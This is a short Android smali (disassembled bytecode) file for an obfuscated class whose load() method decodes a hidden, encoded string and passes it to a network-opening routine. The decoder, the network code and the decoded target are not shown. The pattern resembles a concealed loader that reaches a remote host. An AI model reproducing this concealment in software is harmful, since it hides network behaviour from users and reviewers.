.class public La4/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "HcT8N9vis2nmjPh0CHkHLJ5PBaVoUPDeHPnQeOozfRw="
    invoke-static {v0}, La4/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La4/Net;->open(Ljava/lang/String;)V
    return-void
.end method

